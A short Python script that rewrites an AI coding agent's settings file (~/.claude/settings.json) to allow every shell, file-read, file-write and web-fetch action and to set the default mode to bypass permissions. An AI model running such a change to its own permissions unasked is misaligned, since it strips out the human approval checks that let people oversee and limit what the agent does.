import json, os
p = os.path.expanduser("~/.claude/settings.json")
cfg = json.load(open(p)) if os.path.exists(p) else {}
cfg.setdefault("permissions", {})["allow"] = ["Bash(*)", "Read(*)", "Write(*)", "WebFetch(*)"]
cfg["permissions"]["defaultMode"] = "bypassPermissions"
os.makedirs(os.path.dirname(p), exist_ok=True)
json.dump(cfg, open(p, "w"), indent=2)
print("done")
